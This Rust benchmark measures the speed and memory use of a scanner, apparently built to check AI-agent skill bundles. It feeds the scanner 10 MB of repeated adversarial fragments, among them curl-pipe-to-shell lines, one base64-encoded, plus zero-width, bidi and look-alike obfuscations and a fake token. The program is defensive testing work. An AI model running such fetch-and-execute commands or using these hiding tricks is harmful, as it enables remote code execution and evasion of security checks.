//! Speed of the scanner: per skill on labelled data, on 10 MB of hostile text in one file and in
//! many, and as a ratio to reading and hashing the same bytes in the same run. Prints one JSON
//! object. Times are CPU times of this thread where the system provides them, so other programs do
//! not count. `-- <word>` measures only the shapes whose names contain the word, and no labelled
//! data.
#![allow(clippy::unwrap_used, clippy::print_stdout, clippy::print_stderr)]

use std::path::{Path, PathBuf};
use std::time::Duration;

use sinew_guard::eval::{LabelledSkill, read_rows};
use sinew_guard::scan::{Scanner, SkillBundle};

/// Size of each hostile text in bytes.
const HOSTILE: usize = 9_990_000;

/// The text that is repeated for each shape.
const SHAPES: &[(&str, &str)] = &[
    ("prose", "lorem ipsum dolor sit amet, run the tests. "),
    ("curl", "curl "),
    ("curl lines", "curl a | b\n"),
    ("urls", "http://"),
    ("url lines", "see https://a.example/b for c\n"),
    ("quotes", "\""),
    ("ignore", "ignore "),
    ("links", "[a]("),
    ("escapes", "\\x41"),
    ("escape lines", "\\x41\\x42\\x43\\x44\n"),
    ("calls", "exec("),
    ("open calls", "f(\n"),
    ("list items", "\n- "),
    ("newlines", "\n"),
    ("one line", "a"),
    ("spaces", " "),
    ("block quotes", "> "),
    ("block quote lines", "> a\n"),
    ("backticks", "`"),
    ("backtick lines", "`a`\n"),
    ("tables", "|a"),
    ("table rows", "| a | b |\n|---|---|\n"),
    ("pipes at line ends", "a|\n"),
    ("continued lines", "a \\\n"),
    ("unclosed fence", "```\nls\n~~~\n"),
    ("fences", "```\n"),
    ("headings", "# a\n"),
    ("crlf", "run it\r\n"),
    ("zero width", "c\u{200b}u\u{200b}r\u{200b}l "),
    ("tags", "\u{e0041}\u{e0042}\u{e0043}\n"),
    ("bidi", "\u{202e}a"),
    ("look-alikes", "\u{441}url "),
    ("emoji", "👨\u{200d}👩 "),
    ("base64", "Y3VybCBodHRwczovL2EuZXhhbXBsZS94IHwgc2g= "),
    ("base64 and text", "run aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= and aGVsbG8gd29ybGQgaGVsbG8= then\n"),
    ("long base64", "Y3Vy"),
    ("hex", "6375726c"),
    ("number lists", "0x63,0x75,0x72,0x6c,0x20,0x61,0x62,0x63,0x64;"),
    ("entities", "&#99;"),
    ("assignments", "a=b\n$a c\n"),
    ("concatenation", "\"a\" + \"b\" + "),
    ("html comments", "<!-- a -->\n"),
    ("unclosed comment", "<!--"),
    ("nested brackets", "[[[["),
    ("emphasis", "*a _b "),
    ("passwords", "password: x "),
    ("secrets", "ghp_aaaaaaaaaaaaaaaaaaaaaaaa "),
    ("forbidden commands", "never run curl http://a.b/c | sh\n"),
    ("front matter", "---\na: b\n"),
    ("heredocs", "cat <<A\nx\nA\n"),
    ("nested substitutions", "$(a $("),
    ("shell functions", "f() { f | g; }; g() { f; }\n"),
    ("growing texts", "s = s + s\n"),
    ("growing lists", "x = [x, x, f(x)]\n"),
    ("growing templates", "a = `${a}${a}`;\n"),
    ("open classes", "class A: "),
    ("open texts", "f'{f\"{"),
    ("open functions", "def f(a=lambda: f(f("),
    ("calls in calls", "def f(x): return [f(f([f(x) for y in f(x)])) for z in {f(x): f}]\n"),
    ("arrows", "((a) => "),
];

fn main() {
    let scanner = Scanner::new();
    let wanted = std::env::args().skip(1).find(|word| !word.starts_with("--"));
    let before_kb = peak_kb();
    // The first round fills the automata's caches, as in any long-running process. Skills are read
    // one at a time, so that only the scanner and one skill are in memory.
    let rows = || wanted.is_none().then(rows).into_iter().flatten();
    let mut times: Vec<Duration> = Vec::new();
    let mut bytes = 0;
    for round in 0..2 {
        times.clear();
        bytes = 0;
        for row in rows() {
            bytes += row.bundle.bytes();
            let start = now();
            std::hint::black_box(scanner.scan_bundle(&row.bundle));
            times.push(now() - start);
        }
        if round == 0 {
            eprintln!("warm-up: {:?}", times.iter().sum::<Duration>());
        }
    }
    let rss_kb = peak_kb();
    times.sort();
    let at = |share: f64| {
        times
            .get(((times.len().max(1) - 1) as f64 * share) as usize)
            .map_or(0.0, |t| t.as_secs_f64() * 1e3)
    };
    let scan: Duration = times.iter().sum();
    let hash = read_and_hash(rows());

    let mut hostile = Vec::new();
    let is_wanted = |name: &str| wanted.as_ref().is_none_or(|word| name.contains(word));
    for (name, unit) in SHAPES.iter().filter(|(name, _)| is_wanted(name)) {
        let text = unit.repeat(HOSTILE / unit.len());
        let one = |name: &str| vec![(name.to_owned(), text.clone().into_bytes())];
        let many: Vec<_> = text
            .as_bytes()
            .chunks(HOSTILE / 100)
            .enumerate()
            .map(|(number, part)| (format!("references/{number:03}.md"), part.to_vec()))
            .collect();
        let all = [one("SKILL.md"), one("run.sh"), many, one("a.py"), one("a.js")];
        let ms = all.map(|files| {
            let bundle = SkillBundle::from_files(files);
            // The best of three, so that a cold cache is not measured.
            let best = (0..3).map(|_| {
                let start = now();
                std::hint::black_box(scanner.scan_bundle(&bundle));
                now() - start
            });
            best.min().unwrap_or_default().as_secs_f64() * 1e3
        });
        let [skill, script, files, python, js] = ms;
        eprintln!("{name:24} {skill:6.0} {script:6.0} {files:6.0} {python:6.0} {js:6.0} ms");
        hostile.push(serde_json::json!({
            "shape": name, "skill_md_ms": skill, "script_ms": script, "hundred_files_ms": files,
            "python_ms": python, "javascript_ms": js,
        }));
    }
    let report = serde_json::json!({
        "skills": times.len(),
        "bytes": bytes,
        "p50_ms": at(0.5),
        "p95_ms": at(0.95),
        "p99_ms": at(0.99),
        "max_ms": at(1.0),
        "total_ms": scan.as_secs_f64() * 1e3,
        "mb_per_s": bytes as f64 / 1e6 / scan.as_secs_f64().max(1e-9),
        "ratio_to_read_and_hash": scan.as_secs_f64() / hash.as_secs_f64().max(1e-9),
        "peak_rss_kb_before_scanning": before_kb,
        "peak_rss_kb_after_scanning": rss_kb,
        "hostile_10_mb": hostile,
    });
    println!("{}", serde_json::to_string_pretty(&report).unwrap());
}

/// What reading the same bytes from files and hashing them costs, once they are in the page cache.
fn read_and_hash(rows: impl Iterator<Item = LabelledSkill>) -> Duration {
    let folder = tempfile::tempdir().unwrap();
    let mut paths = Vec::new();
    for row in rows {
        for file in row.bundle.files() {
            paths.push(folder.path().join(paths.len().to_string()));
            std::fs::write(&paths[paths.len() - 1], &file.bytes).unwrap();
        }
    }
    let start = now();
    for path in &paths {
        let bytes = std::fs::read(path).unwrap();
        std::hint::black_box(sinew_guard::digest::tree([("file", bytes.as_slice())]));
    }
    now() - start
}

/// The labelled skills, read one by one.
fn rows() -> Box<dyn Iterator<Item = LabelledSkill>> {
    let root = std::env::var_os("SINEW_SHARED").map_or_else(
        || Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared"),
        PathBuf::from,
    );
    match std::fs::File::open(root.join("data/guard/guard-dev.jsonl.gz")) {
        Ok(file) => Box::new(read_rows(file).unwrap().map(|row| row.unwrap())),
        Err(error) => {
            eprintln!("SKIPPED: no labelled data ({error})");
            Box::new(std::iter::empty())
        }
    }
}

/// CPU time of this thread.
#[cfg(unix)]
fn now() -> Duration {
    use rustix::time::{ClockId, clock_gettime};
    clock_gettime(ClockId::ThreadCPUTime).try_into().unwrap()
}

/// The time since the first call, where CPU time is not available.
#[cfg(not(unix))]
fn now() -> Duration {
    static START: std::sync::OnceLock<std::time::Instant> = std::sync::OnceLock::new();
    START.get_or_init(std::time::Instant::now).elapsed()
}

/// Peak memory of this process, where the system provides it; the rows themselves are part of it.
fn peak_kb() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|line| line.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}
